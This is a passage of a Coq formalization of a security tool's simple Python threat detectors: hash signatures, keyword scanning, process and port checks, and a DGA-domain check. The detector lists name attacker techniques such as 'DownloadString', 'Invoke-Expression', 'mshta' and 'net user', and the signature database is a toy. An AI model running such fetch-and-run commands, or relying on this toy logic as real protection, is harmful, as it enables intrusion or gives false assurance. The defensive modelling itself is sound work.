(** * NeuraShield enhanced models: ensemble threat detection

    A shallow embedding of the five "simple" detector modules
    ([signature_detector_simple.py], [file_analyzer_simple.py],
    [behavioral_analyzer_simple.py], [encrypted_detector_simple.py],
    [social_engineering_detector_simple.py]) and of the ensemble
    coordinator ([ensemble_detector_simple.py]), followed by the
    properties of the design document that concern them and by further
    properties that the code shows.

    Conventions of the embedding.
    - Numbers.  The detectors, and the first reading of the coordinator,
      take a Python [int] or [float] for the rational it denotes ([Q]) and
      compute exactly, every result in lowest terms: what is stated there
      of a score holds of the code up to the rounding of that score.
      Where rounding decides an outcome the floats are computed as they
      are, in IEEE 754 binary64 ([Binary64]): the part scores of the
      social-engineering detector, and the second reading of the
      coordinator ([Rounded]), on which the properties of its totals, of
      its thresholds and of its weights are stated.
    - A Python [dict] with string keys is an association list in insertion
      order; [d[k] = v] overwrites in place or appends.
    - Code that may raise returns [exc A]; [try/except Exception] is a
      [match] on it.
    - What the code reads from its environment (clock, file system, the
      process table reported by [psutil]) is a field of [World]; the
      clock gives one reading for the whole call. *)

From Stdlib Require Import QArith Qreduction Qminmax String Ascii List ZArith Lia Lqa Bool.
From Stdlib Require Import Morphisms Setoid.
From Stdlib Require Import DecimalString SpecFloat.
Import ListNotations.
Set Warnings "-register-all".
Local Open Scope string_scope.
Local Open Scope Q_scope.

(** ** Exceptions *)

Inductive exn : Type :=
| KeyError (key : string)
| TypeError (msg : string)
| AttributeError (msg : string)
| ValueError (msg : string)
| OSError (msg : string)
| IndexError (msg : string)
| AccessDenied (msg : string)
| RuntimeError (msg : string)
| OverflowError (msg : string)
| ZeroDivisionError (msg : string).

(** [str(e)].  The texts of the interpreter's own messages are abbreviated. *)
Definition str_exn (e : exn) : string :=
  match e with
  | KeyError k => "'" ++ k ++ "'"
  | TypeError m | AttributeError m | ValueError m
  | OSError m | IndexError m | AccessDenied m | RuntimeError m
  | OverflowError m | ZeroDivisionError m => m
  end.

Inductive exc (A : Type) : Type :=
| Ok (a : A)
| Raise (e : exn).
Arguments Ok {A} a.
Arguments Raise {A} e.

Definition bind {A B} (c : exc A) (k : A -> exc B) : exc B :=
  match c with
  | Ok a => k a
  | Raise e => Raise e
  end.

Declare Scope exc_scope.
Delimit Scope exc_scope with exc.
Notation "x <- c ;; k" := (bind c (fun x => k))
  (at level 61, c at next level, right associativity) : exc_scope.
Local Open Scope exc_scope.

(** [try: body / except Exception as e: handler]. *)
Definition try_except {A} (body : exc A) (handler : exn -> A) : A :=
  match body with
  | Ok a => a
  | Raise e => handler e
  end.

Fixpoint mapM {A B} (f : A -> exc B) (l : list A) : exc (list B) :=
  match l with
  | [] => Ok []
  | x :: xs => y <- f x ;; ys <- mapM f xs ;; Ok (y :: ys)
  end.

(** A [for] loop that threads an accumulator and may raise. *)
Fixpoint foldM {A S} (f : S -> A -> exc S) (l : list A) (s : S) : exc S :=
  match l with
  | [] => Ok s
  | x :: xs => s' <- f s x ;; foldM f xs s'
  end.

(** ** Numbers *)

Module Num.
Definition add (a b : Q) : Q := Qred (a + b).
Definition mul (a b : Q) : Q := Qred (a * b).
Definition div (a b : Q) : Q := Qred (a / b).
Definition of_Z (z : Z) : Q := inject_Z z.
Definition of_nat (n : nat) : Q := inject_Z (Z.of_nat n).
(** [a >= b], [a > b] *)
Definition geb (a b : Q) : bool := Qle_bool b a.
Definition gtb (a b : Q) : bool := negb (Qle_bool a b).
Definition eqb (a b : Q) : bool := Qeq_bool a b.
(** [min(a, b)]: the first argument unless the second is smaller. *)
Definition min (a b : Q) : Q := if gtb a b then b else a.
End Num.

(** ** Binary64 numbers

    A Python [float] with its rounding: the operations of IEEE 754
    binary64, round to nearest, ties to even. *)

Module Binary64.

Definition prec : Z := 53.
Definition emax : Z := 1024.

Definition float : Type := spec_float.

Definition add : float -> float -> float := SFadd prec emax.
Definition mul : float -> float -> float := SFmul prec emax.
Definition div : float -> float -> float := SFdiv prec emax.

(** [a < b] and [a <= b]; both are false when one side is a nan. *)
Definition ltb : float -> float -> bool := SFltb.
Definition leb : float -> float -> bool := SFleb.

(** [min(a, b)]: the first argument unless the second is smaller. *)
Definition min (a b : float) : float := if ltb b a then b else a.

Definition is_finite (f : float) : bool :=
  match f with
  | S754_zero _ | S754_finite _ _ _ => true
  | S754_infinity _ | S754_nan => false
  end.

(** An integer as a mantissa with exponent 0, before any rounding. *)
Definition raw (z : Z) : float :=
  match z with
  | Z0 => S754_zero false
  | Zpos p => S754_finite false p 0
  | Zneg p => S754_finite true p 0
  end.

(** The float nearest to a rational: the value of a decimal literal, and
    [float(n)] for an int [n]; an infinity when it is out of range. *)
Definition of_Q (q : Q) : float := div (raw (Qnum q)) (raw (Zpos (Qden q))).

(** The value of a finite float. *)
Definition to_Q (f : float) : Q :=
  match f with
  | S754_finite s m e =>
      let n := if s then Zneg m else Zpos m in
      Qred (match e with
            | Z0 => inject_Z n
            | Zpos k => inject_Z (n * 2 ^ Zpos k)
            | Zneg k => Qmake n (2 ^ k)
            end)
  | _ => 0
  end.

End Binary64.

(** ** Values *)

Inductive value : Type :=
| VNone
| VBool (b : bool)
| VNum (q : Q)
| VStr (s : string)
| VList (l : list value)
| VDict (d : list (string * value)).

Definition dict : Type := list (string * value).

Fixpoint dict_get (d : dict) (k : string) : option value :=
  match d with
  | [] => None
  | (k', v) :: d' => if String.eqb k k' then Some v else dict_get d' k
  end.

(** [k in d] *)
Definition dict_mem (d : dict) (k : string) : bool :=
  match dict_get d k with Some _ => true | None => false end.

(** [d.get(k, default)] *)
Definition dict_get_default (d : dict) (k : string) (default : value) : value :=
  match dict_get d k with Some v => v | None => default end.

(** [d.get(k)] *)
Definition dict_get_none (d : dict) (k : string) : value :=
  dict_get_default d k VNone.

(** [d[k]] *)
Definition dict_item (d : dict) (k : string) : exc value :=
  match dict_get d k with Some v => Ok v | None => Raise (KeyError k) end.

(** [d[k] = v] *)
Fixpoint dict_set (d : dict) (k : string) (v : value) : dict :=
  match d with
  | [] => [(k, v)]
  | (k', v') :: d' =>
      if String.eqb k k' then (k, v) :: d' else (k', v') :: dict_set d' k v
  end.

(** Truth value of an object. *)
Definition truthy (v : value) : bool :=
  match v with
  | VNone => false
  | VBool b => b
  | VNum q => negb (Qeq_bool q 0)
  | VStr s => negb (String.eqb s "")
  | VList l => match l with [] => false | _ => true end
  | VDict d => match d with [] => false | _ => true end
  end.

(** [v in [s1, s2, ...]] for a list of string literals: only a string can be
    equal to one of them. *)
Definition in_strings (v : value) (l : list string) : bool :=
  match v with
  | VStr s => existsb (String.eqb s) l
  | _ => false
  end.

(** The number a value stands for in arithmetic ([bool] is a subtype of
    [int]); anything else is a [TypeError]. *)
Definition as_number (v : value) : exc Q :=
  match v with
  | VNum q => Ok q
  | VBool true => Ok 1
  | VBool false => Ok 0
  | _ => Raise (TypeError "unsupported operand type(s)")
  end.

(** Iteration over an object: a list yields its items, a string its
    characters, a dict its keys. *)
Definition chars (s : string) : list value :=
  map (fun c => VStr (String c EmptyString)) (list_ascii_of_string s).

Definition py_iter (v : value) : exc (list value) :=
  match v with
  | VList l => Ok l
  | VStr s => Ok (chars s)
  | VDict d => Ok (map (fun kv => VStr (fst kv)) d)
  | _ => Raise (TypeError "object is not iterable")
  end.

(** [v[k]] with a string key [k], on an arbitrary object. *)
Definition py_item (v : value) (k : string) : exc value :=
  match v with
  | VDict d => dict_item d k
  | VList _ => Raise (TypeError "list indices must be integers or slices, not str")
  | VStr _ => Raise (TypeError "string indices must be integers, not 'str'")
  | _ => Raise (TypeError "object is not subscriptable")
  end.

(** [v.get(k, default)] on an arbitrary object: only a dict has [get]. *)
Definition py_get (v : value) (k : string) (default : value) : exc value :=
  match v with
  | VDict d => Ok (dict_get_default d k default)
  | _ => Raise (AttributeError "object has no attribute 'get'")
  end.

(** ** Strings *)

Definition lower_ascii (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if andb (Nat.leb 65 n) (Nat.leb n 90) then ascii_of_nat (n + 32) else c.

(** [s.lower()], on one-byte characters: only [A]-[Z] change. *)
Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lower_ascii c) (lower s')
  end.

(** [sub in s] *)
Fixpoint contains (sub s : string) : bool :=
  if String.prefix sub s then true
  else match s with
       | EmptyString => false
       | String _ s' => contains sub s'
       end.

(** [v.lower()] on an arbitrary object. *)
Definition py_lower (v : value) : exc string :=
  match v with
  | VStr s => Ok (lower s)
  | _ => Raise (AttributeError "object has no attribute 'lower'")
  end.

(** [sep.join(v)] *)
Fixpoint join (sep : string) (l : list string) : string :=
  match l with
  | [] => ""
  | [s] => s
  | s :: l' => s ++ sep ++ join sep l'
  end.

Definition as_str (v : value) : exc string :=
  match v with
  | VStr s => Ok s
  | _ => Raise (TypeError "sequence item: expected str instance")
  end.

Definition py_join (sep : string) (v : value) : exc string :=
  items <- py_iter v ;;
  strs <- mapM as_str items ;;
  Ok (join sep strs).

(** [s.split(sep)] for a one-character separator. *)
Fixpoint split_on (sep : ascii) (s : string) : list string :=
  match s with
  | EmptyString => [""]
  | String c s' =>
      if Ascii.eqb c sep then "" :: split_on sep s'
      else match split_on sep s' with
           | [] => [String c ""]
           | piece :: rest => String c piece :: rest
           end
  end.

(** [needle in v] for a string [needle]: a substring of a string, an item
    of a list, a key of a dict. *)
Definition py_in (needle : string) (v : value) : exc bool :=
  match v with
  | VStr s => Ok (contains needle s)
  | VList l =>
      Ok (existsb (fun x => match x with VStr s => String.eqb s needle | _ => false end) l)
  | VDict d => Ok (dict_mem d needle)
  | _ => Raise (TypeError "argument is not iterable")
  end.

(** [v.split(sep)] *)
Definition py_split (v : value) (sep : ascii) : exc (list string) :=
  match v with
  | VStr s => Ok (split_on sep s)
  | _ => Raise (AttributeError "object has no attribute 'split'")
  end.

(** [len(v)] *)
Definition py_len (v : value) : exc nat :=
  match v with
  | VList l => Ok (List.length l)
  | VStr s => Ok (String.length s)
  | VDict d => Ok (List.length d)
  | _ => Raise (TypeError "object has no len()")
  end.

(** [l[i]] *)
Definition list_item {A} (l : list A) (i : nat) : exc A :=
  match nth_error l i with
  | Some x => Ok x
  | None => Raise (IndexError "list index out of range")
  end.

(** [int(s)] for a string: white space around, an optional sign, decimal
    digits with single underscores between them. *)
Definition is_space (c : ascii) : bool :=
  let n := nat_of_ascii c in
  orb (andb (Nat.leb 9 n) (Nat.leb n 13))
      (orb (andb (Nat.leb 28 n) (Nat.leb n 32))
           (orb (Nat.eqb n 133) (Nat.eqb n 160))).

Fixpoint lstrip (l : list ascii) : list ascii :=
  match l with
  | c :: l' => if is_space c then lstrip l' else l
  | [] => []
  end.

Definition strip (l : list ascii) : list ascii :=
  rev (lstrip (rev (lstrip l))).

Definition digit_of (c : ascii) : option Z :=
  let n := nat_of_ascii c in
  if andb (Nat.leb 48 n) (Nat.leb n 57) then Some (Z.of_nat (n - 48)) else None.

Fixpoint parse_digits (l : list ascii) (acc : Z) (after_digit : bool) : option Z :=
  match l with
  | [] => if after_digit then Some acc else None
  | c :: l' =>
      match digit_of c with
      | Some d => parse_digits l' (10 * acc + d)%Z true
      | None =>
          if andb (Ascii.eqb c "_") after_digit then parse_digits l' acc false
          else None
      end
  end.

Definition parse_int (s : string) : option Z :=
  match strip (list_ascii_of_string s) with
  | "-"%char :: l => option_map Z.opp (parse_digits l 0 false)
  | "+"%char :: l => parse_digits l 0 false
  | l => parse_digits l 0 false
  end.

Definition py_int (s : string) : exc Z :=
  match parse_int s with
  | Some z => Ok z
  | None => Raise (ValueError ("invalid literal for int() with base 10: '" ++ s ++ "'"))
  end.

(** [str(z)] *)
Definition str_Z (z : Z) : string := NilZero.string_of_int (Z.to_int z).

(** ** The environment *)

(** What a path names: a file that can be opened, with its bytes, or
    something that exists but whose [open] raises (a directory, a file
    without read permission). *)
Inductive fs_entry : Type :=
| RegularFile (content : string)
| Unreadable (size : Z).

(** One item of [psutil.process_iter(attrs)]: [proc.info].  An attribute
    the caller may not read is [None]. *)
Record proc_info : Type := {
  pi_pid : Z;
  pi_name : option string;
  pi_cmdline : option (list string);
  pi_cpu_percent : option Q;
  pi_memory_percent : option Q
}.

(** One item of [psutil.net_connections]; an address is absent or a pair
    of an ip and a port. *)
Record sconn : Type := {
  sc_laddr : option (string * Z);
  sc_raddr : option (string * Z);
  sc_status : string;
  sc_pid : option Z
}.

Record World : Type := {
  (* datetime.now().isoformat() *)
  now_isoformat : string;
  (* what a path names, if anything *)
  fs : string -> option fs_entry;
  (* psutil.process_iter(attrs) *)
  process_iter : exc (list proc_info);
  (* psutil.net_connections(kind='inet') *)
  net_connections : exc (list sconn);
  (* cpu percent, memory percent, disk usage percent *)
  system_metrics : exc (Q * Q * Q)
}.

(** [os.path.exists] *)
Definition path_exists (w : World) (p : string) : bool :=
  match fs w p with Some _ => true | None => false end.

(** [os.path.getsize] *)
Definition getsize (w : World) (p : string) : exc Z :=
  match fs w p with
  | Some (RegularFile c) => Ok (Z.of_nat (String.length c))
  | Some (Unreadable n) => Ok n
  | None => Raise (OSError "No such file or directory")
  end.

(** [open(p, ...).read()], before any decoding *)
Definition read_bytes (w : World) (p : string) : exc string :=
  match fs w p with
  | Some (RegularFile c) => Ok c
  | Some (Unreadable _) => Raise (OSError "Permission denied")
  | None => Raise (OSError "No such file or directory")
  end.

(** ** signature_detector_simple.py *)

Module SignatureDetector.
Section WithLibraries.

(** [hashlib.sha256(content).hexdigest()] *)
Variable sha256_hexdigest : string -> string.
(** The text that [open(p, 'r', encoding='utf-8', errors='ignore').read()]
    gives for the bytes of a file. *)
Variable decode_utf8_ignore : string -> string.

Definition signature_database : list (string * string) :=
  [ ("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "Trojan.Generic");
    ("d41d8cd98f00b204e9800998ecf8427e", "Malware.Sample");
    ("5d41402abc4b2a76b9719d911017c592", "Virus.Test") ].

Fixpoint lookup (k : string) (db : list (string * string)) : option string :=
  match db with
  | [] => None
  | (k', v) :: db' => if String.eqb k k' then Some v else lookup k db'
  end.

Record yara_rule : Type := {
  description : string;
  strings : list string;
  condition : string
}.

Definition yara_rules : list (string * yara_rule) :=
  [ ("suspicious_strings",
     {| description := "Detects suspicious strings";
        strings := ["cmd.exe"; "powershell"; "DownloadString"];
        condition := "2 of them" |}) ].

Definition _calculate_hash (w : World) (file_path : string) : string :=
  try_except
    (content <- read_bytes w file_path ;; Ok (sha256_hexdigest content))
    (fun _ => "error_hash").

(** The inner loop of [_check_yara_rules]: how many of the rule's strings
    occur, lowercased, in the content. *)
Fixpoint count_matches (strs : list string) (content : string) : nat :=
  match strs with
  | [] => 0
  | s :: strs' =>
      (if contains (lower s) content then 1 else 0) + count_matches strs' content
  end.

(** The loop over the rules: the first rule with two matches or more
    returns. *)
Fixpoint check_rules (w : World) (rules : list (string * yara_rule))
         (content : string) : option dict :=
  match rules with
  | [] => None
  | (rule_name, rule) :: rules' =>
      let matches := count_matches (strings rule) content in
      if Nat.leb 2 matches then
        Some [ ("detected", VBool true);
               ("threat_type", VStr ("YARA: " ++ rule_name));
               ("confidence", VNum 0.8);
               ("method", VStr "yara");
               ("timestamp", VStr (now_isoformat w));
               ("details", VDict [ ("rule", VStr rule_name);
                                   ("matches", VNum (Num.of_nat matches)) ]) ]
      else check_rules w rules' content
  end.

Definition _check_yara_rules (w : World) (file_path : string) : dict :=
  try_except
    (raw <- read_bytes w file_path ;;
     let content := lower (decode_utf8_ignore raw) in
     match check_rules w yara_rules content with
     | Some result => Ok result
     | None =>
         Ok [ ("detected", VBool false);
              ("threat_type", VStr "Clean");
              ("confidence", VNum 0.0);
              ("method", VStr "yara");
              ("timestamp", VStr (now_isoformat w)) ]
     end)
    (fun e =>
       [ ("detected", VBool false);
         ("threat_type", VStr "Error");
         ("confidence", VNum 0.0);
         ("method", VStr "yara");
         ("timestamp", VStr (now_isoformat w));
         ("error", VStr (str_exn e)) ]).

Definition detect_threats (w : World) (file_path : string) : dict :=
  try_except
    (if negb (path_exists w file_path) then
       Ok [ ("detected", VBool false);
            ("threat_type", VStr "Unknown");
            ("confidence", VNum 0.0);
            ("method", VStr "signature");
            ("timestamp", VStr (now_isoformat w));
            ("error", VStr "File not found") ]
     else
       let file_hash := _calculate_hash w file_path in
       match lookup file_hash signature_database with
       | Some label =>
           Ok [ ("detected", VBool true);
                ("threat_type", VStr label);
                ("confidence", VNum 0.95);
                ("method", VStr "signature");
                ("timestamp", VStr (now_isoformat w));
                ("details", VDict [ ("hash", VStr file_hash);
                                    ("signature_match", VBool true) ]) ]
       | None =>
           let yara_result := _check_yara_rules w file_path in
           detected <- dict_item yara_result "detected" ;;
           if truthy detected then Ok yara_result
           else
             Ok [ ("detected", VBool false);
                  ("threat_type", VStr "Clean");
                  ("confidence", VNum 0.0);
                  ("method", VStr "signature");
                  ("timestamp", VStr (now_isoformat w));
                  ("details", VDict [ ("hash", VStr file_hash);
                                      ("signature_match", VBool false) ]) ]
       end)
    (fun e =>
       [ ("detected", VBool false);
         ("threat_type", VStr "Error");
         ("confidence", VNum 0.0);
         ("method", VStr "signature");
         ("timestamp", VStr (now_isoformat w));
         ("error", VStr (str_exn e)) ]).

End WithLibraries.
End SignatureDetector.

(** ** file_analyzer_simple.py *)

Module FileAnalyzer.
Section WithLibraries.

(** The text that [open(p, 'r', encoding='utf-8', errors='ignore').read()]
    gives for the bytes of a file. *)
Variable decode_utf8_ignore : string -> string.
(** [os.path.splitext(p)[1]] *)
Variable splitext_ext : string -> string.

Definition malicious_patterns : list string :=
  [ "cmd.exe"; "powershell"; "DownloadString"; "Invoke-Expression";
    "regsvr32"; "rundll32"; "wscript"; "cscript"; "mshta" ].

Definition suspicious_extensions : list string :=
  [ ".exe"; ".bat"; ".cmd"; ".ps1"; ".vbs"; ".js" ].

(** The pattern loop: the patterns found, in order; [malicious_count] is
    the length of the result. *)
Fixpoint find_patterns (patterns : list string) (content : string) : list string :=
  match patterns with
  | [] => []
  | pattern :: patterns' =>
      if contains (lower pattern) content
      then pattern :: find_patterns patterns' content
      else find_patterns patterns' content
  end.

Definition predict (w : World) (file_path : string) : dict :=
  try_except
    (if negb (path_exists w file_path) then
       Ok [ ("prediction", VStr "error");
            ("confidence", VNum 0.0);
            ("threat_type", VStr "File Not Found");
            ("timestamp", VStr (now_isoformat w));
            ("error", VStr "File not found") ]
     else
       file_size <- getsize w file_path ;;
       let file_extension := lower (splitext_ext file_path) in
       let is_suspicious_extension :=
         existsb (String.eqb file_extension) suspicious_extensions in
       match read_bytes w file_path with
       | Raise _ =>
           (* Binary file - check size and extension *)
           if andb is_suspicious_extension (Z.ltb 1024 file_size) then
             Ok [ ("prediction", VStr "suspicious");
                  ("confidence", VNum 0.6);
                  ("threat_type", VStr "Suspicious Binary");
                  ("timestamp", VStr (now_isoformat w));
                  ("features", VDict [ ("file_size", VNum (Num.of_Z file_size));
                                       ("extension", VStr file_extension);
                                       ("is_binary", VBool true) ]) ]
           else
             Ok [ ("prediction", VStr "benign");
                  ("confidence", VNum 0.8);
                  ("threat_type", VStr "Clean File");
                  ("timestamp", VStr (now_isoformat w));
                  ("features", VDict [ ("file_size", VNum (Num.of_Z file_size));
                                       ("extension", VStr file_extension);
                                       ("is_binary", VBool true) ]) ]
       | Ok raw =>
           let content := lower (decode_utf8_ignore raw) in
           let found_patterns := find_patterns malicious_patterns content in
           let malicious_count := List.length found_patterns in
           let threat_score :=
             Num.div (Num.of_nat malicious_count)
                     (Num.of_nat (List.length malicious_patterns)) in
           let '(prediction, confidence, threat_type) :=
             if Num.gtb threat_score 0.3 then
               ("malicious", Num.min 0.9 (Num.add 0.5 (Num.mul threat_score 0.4)),
                "Script-based Malware")
             else if Num.gtb threat_score 0.1 then
               ("suspicious", 0.6, "Potentially Suspicious")
             else
               ("benign", 0.8, "Clean File") in
           Ok [ ("prediction", VStr prediction);
                ("confidence", VNum confidence);
                ("threat_type", VStr threat_type);
                ("timestamp", VStr (now_isoformat w));
                ("features",
                 VDict [ ("file_size", VNum (Num.of_Z file_size));
                         ("extension", VStr file_extension);
                         ("malicious_patterns", VList (map VStr found_patterns));
                         ("threat_score", VNum threat_score);
                         ("pattern_count", VNum (Num.of_nat malicious_count)) ]) ]
       end)
    (fun e =>
       [ ("prediction", VStr "error");
         ("confidence", VNum 0.0);
         ("threat_type", VStr "Analysis Error");
         ("timestamp", VStr (now_isoformat w));
         ("error", VStr (str_exn e)) ]).

End WithLibraries.
End FileAnalyzer.

(** ** behavioral_analyzer_simple.py *)

Module BehavioralAnalyzer.

Definition suspicious_processes : list string :=
  [ "powershell.exe"; "cmd.exe"; "wscript.exe"; "cscript.exe";
    "mshta.exe"; "regsvr32.exe"; "rundll32.exe" ].

Definition suspicious_commands : list string :=
  [ "DownloadString"; "Invoke-Expression"; "IEX"; "Invoke-WebRequest";
    "net user"; "net group"; "wmic"; "schtasks" ].

Definition malware_ports : list Z := [4444; 8080; 9999; 1337]%Z.

Definition opt_value {A} (f : A -> value) (o : option A) : value :=
  match o with Some a => f a | None => VNone end.

Definition process_entry (p : proc_info) : value :=
  VDict [ ("pid", VNum (Num.of_Z (pi_pid p)));
          ("name", opt_value VStr (pi_name p));
          ("cmdline", opt_value (fun l => VList (map VStr l)) (pi_cmdline p));
          ("cpu_percent", opt_value VNum (pi_cpu_percent p));
          ("memory_percent", opt_value VNum (pi_memory_percent p)) ].

(** [f"{addr.ip}:{addr.port}" if addr else None] *)
Definition format_addr (a : option (string * Z)) : value :=
  match a with
  | Some (ip, port) => VStr (ip ++ ":" ++ str_Z port)
  | None => VNone
  end.

Definition connection_entry (c : sconn) : value :=
  VDict [ ("local_address", format_addr (sc_laddr c));
          ("remote_address", format_addr (sc_raddr c));
          ("status", VStr (sc_status c));
          ("pid", opt_value (fun z => VNum (Num.of_Z z)) (sc_pid c)) ].

(** Collect current system behavioral data.  The handler around one
    process for [NoSuchProcess] and [AccessDenied] guards a read of
    [proc.info], which does not raise. *)
Definition collect_behavioral_data (w : World) : dict :=
  try_except
    (procs <- process_iter w ;;
     let processes := map process_entry procs in
     let network_connections :=
       try_except
         (connections <- net_connections w ;;
          Ok (map connection_entry (firstn 50 connections)))
         (fun _ => []) in
     let metrics :=
       try_except
         (m <- system_metrics w ;;
          let '(cpu, mem, disk) := m in
          Ok [ ("cpu_percent", VNum cpu);
               ("memory_percent", VNum mem);
               ("disk_usage", VNum disk) ])
         (fun _ => []) in
     Ok [ ("timestamp", VStr (now_isoformat w));
          ("processes", VList processes);
          ("network_connections", VList network_connections);
          ("system_metrics", VDict metrics) ])
    (fun e =>
       [ ("timestamp", VStr (now_isoformat w));
         ("error", VStr (str_exn e));
         ("processes", VList []);
         ("network_connections", VList []);
         ("system_metrics", VDict []) ]).

(** The loops of [analyze_behavior] carry the list built so far and
    [risk_score]. *)
Definition acc : Type := (list value * Q)%type.

(** [if proc["name"].lower() in [p.lower() for p in suspicious_processes]] *)
Definition process_step (a : acc) (proc : value) : exc acc :=
  name <- py_item proc "name" ;;
  lname <- py_lower name ;;
  if existsb (String.eqb lname) (map lower suspicious_processes)
  then Ok ((fst a ++ [proc])%list, Num.add (snd a) 0.2)
  else Ok a.

(** [for cmd in self.suspicious_commands] *)
Definition command_step (proc : value) (cmdline : string) (a : acc) (cmd : string)
  : exc acc :=
  if contains (lower cmd) (lower cmdline) then
    name <- py_item proc "name" ;;
    Ok ((fst a ++ [ VDict [ ("process", name);
                            ("command", VStr cmd);
                            ("full_cmdline", VStr cmdline) ] ])%list,
        Num.add (snd a) 0.3)
  else Ok a.

Definition cmdline_step (a : acc) (proc : value) : exc acc :=
  args <- py_get proc "cmdline" (VList []) ;;
  cmdline <- py_join " " args ;;
  foldM (command_step proc cmdline) suspicious_commands a.

Definition connection_step (a : acc) (conn : value) : exc acc :=
  remote <- py_get conn "remote_address" VNone ;;
  if truthy remote then
    remote' <- py_item conn "remote_address" ;;
    has_colon <- py_in ":" remote' ;;
    if has_colon then
      pieces <- py_split remote' ":" ;;
      piece <- list_item pieces 1 ;;
      port <- py_int piece ;;
      if existsb (Z.eqb port) malware_ports
      then Ok ((fst a ++ [conn])%list, Num.add (snd a) 0.1)
      else Ok a
    else Ok a
  else Ok a.

Definition threat_entry (type : string) (details : list value) (risk_level : string)
  : value :=
  VDict [ ("type", VStr type);
          ("details", VList details);
          ("risk_level", VStr risk_level) ].

(** [if found: threats_detected.append(...); threat_types.append(...)] *)
Definition report (type risk_level : string) (found : list value)
           (threats : list value * list value) : list value * list value :=
  match found with
  | [] => threats
  | _ => ((fst threats ++ [threat_entry type found risk_level])%list,
          (snd threats ++ [VStr type])%list)
  end.

Definition len (l : list value) : value := VNum (Num.of_nat (List.length l)).

Definition analyze_behavior (w : World) (data : dict) : dict :=
  try_except
    (let risk_score := 0.0 in
     (* Analyze processes *)
     procs <- py_iter (dict_get_default data "processes" (VList [])) ;;
     a1 <- foldM process_step procs ([], risk_score) ;;
     let '(suspicious_processes, risk_score) := a1 in
     let threats := report "Suspicious Process" "medium" suspicious_processes ([], []) in
     (* Analyze command lines *)
     procs <- py_iter (dict_get_default data "processes" (VList [])) ;;
     a2 <- foldM cmdline_step procs ([], risk_score) ;;
     let '(suspicious_commands, risk_score) := a2 in
     let threats := report "Suspicious Commands" "high" suspicious_commands threats in
     (* Analyze network connections *)
     conns <- py_iter (dict_get_default data "network_connections" (VList [])) ;;
     a3 <- foldM connection_step conns ([], risk_score) ;;
     let '(suspicious_connections, risk_score) := a3 in
     let threats := report "Suspicious Network" "medium" suspicious_connections threats in
     (* Determine overall threat level *)
     let threat_level :=
       if Num.geb risk_score 0.7 then "high"
       else if Num.geb risk_score 0.4 then "medium"
       else "low" in
     Ok [ ("threats_detected", VList (fst threats));
          ("threat_types", VList (snd threats));
          ("threat_level", VStr threat_level);
          ("overall_risk_score", VNum (Num.min 10.0 (Num.mul risk_score 10)));
          ("timestamp", VStr (now_isoformat w));
          ("analysis_summary",
           VDict [ ("suspicious_processes", len suspicious_processes);
                   ("suspicious_commands", len suspicious_commands);
                   ("suspicious_connections", len suspicious_connections) ]) ])
    (fun e =>
       [ ("threats_detected", VList []);
         ("threat_types", VList []);
         ("threat_level", VStr "error");
         ("overall_risk_score", VNum 0.0);
         ("timestamp", VStr (now_isoformat w));
         ("error", VStr (str_exn e)) ]).

End BehavioralAnalyzer.

(** [v in [n1, n2, ...]] for a list of integer literals: a number equal to
    one of them; [True] and [False] count as 1 and 0. *)
Definition in_numbers (v : value) (l : list Z) : bool :=
  match v with
  | VNum q => existsb (fun n => Qeq_bool q (inject_Z n)) l
  | VBool b => existsb (fun n => Z.eqb (if b then 1 else 0) n) l
  | _ => false
  end.

(** ** encrypted_detector_simple.py *)

Module EncryptedThreatDetector.
Section WithLibraries.

(** [re.search(pattern, s)] found a match. *)
Variable re_search : string -> string -> bool.

Definition suspicious_domains : list string :=
  [ "malware.com"; "evil.org"; "bad.net"; "suspicious.info" ].

Definition suspicious_ports : list Z := [4444; 8080; 9999; 1337; 31337]%Z.

Definition dga_patterns : list string :=
  [ "[a-z]{8,}\.com";           (* Random long domains *)
    "[a-z]{4,}\d{4,}\.net" ].   (* Mixed alphanumeric *)

(** Check if domain is suspicious *)
Definition _is_suspicious_domain (domain : value) : exc bool :=
  domain_lower <- py_lower domain ;;
  Ok (existsb (fun suspicious => contains suspicious domain_lower) suspicious_domains).

(** The loop of [_is_dga_domain]: the first pattern found returns. *)
Fixpoint search_patterns (patterns : list string) (domain : value) : exc bool :=
  match patterns with
  | [] => Ok false
  | pattern :: patterns' =>
      domain_lower <- py_lower domain ;;
      if re_search pattern domain_lower then Ok true
      else search_patterns patterns' domain
  end.

(** Check if domain matches DGA patterns *)
Definition _is_dga_domain (domain : value) : exc bool :=
  search_patterns dga_patterns domain.

(** Check if connection is suspicious *)
Definition _is_suspicious_connection (conn : value) : exc bool :=
  match conn with
  | VDict d => Ok (in_numbers (dict_get_default d "port" (VNum 0)) suspicious_ports)
  | _ => Ok false
  end.

(** The three loops of [detect_encrypted_threats] carry
    [threats_detected], [threat_types] and [risk_score]. *)
Definition state : Type := (list value * list value * Q)%type.

Definition scan (check : value -> exc bool) (type : string) (details : value -> value)
           (risk_level : string) (increment : Q) (st : state) (item : value)
  : exc state :=
  hit <- check item ;;
  if hit then
    let '(threats_detected, threat_types, risk_score) := st in
    Ok ((threats_detected
           ++ [ VDict [ ("type", VStr type);
                        ("details", details item);
                        ("risk_level", VStr risk_level) ] ])%list,
        (threat_types ++ [VStr type])%list,
        Num.add risk_score increment)
  else Ok st.

Definition detect_encrypted_threats (w : World) (network_data : value) : dict :=
  try_except
    ((* Analyze TLS hosts *)
     tls_hosts <- py_get network_data "tls_hosts" (VList []) ;;
     hosts <- py_iter tls_hosts ;;
     st <- foldM (scan _is_suspicious_domain "Suspicious TLS Host"
                       (fun host => VDict [("host", host)]) "medium" 0.2)
                 hosts ([], [], 0.0) ;;
     (* Analyze DNS queries *)
     dns_queries <- py_get network_data "dns_queries" (VList []) ;;
     queries <- py_iter dns_queries ;;
     st <- foldM (scan _is_dga_domain "DGA Domain"
                       (fun query => VDict [("domain", query)]) "high" 0.3)
                 queries st ;;
     (* Analyze connections *)
     connections <- py_get network_data "connections" (VList []) ;;
     conns <- py_iter connections ;;
     st <- foldM (scan _is_suspicious_connection "Suspicious Connection"
                       (fun conn => conn) "medium" 0.1)
                 conns st ;;
     let '(threats_detected, threat_types, risk_score) := st in
     (* Determine threat level *)
     let threat_level :=
       if Num.geb risk_score 0.6 then "high"
       else if Num.geb risk_score 0.3 then "medium"
       else "low" in
     n_hosts <- py_len tls_hosts ;;
     n_queries <- py_len dns_queries ;;
     n_conns <- py_len connections ;;
     Ok [ ("threats_detected", VList threats_detected);
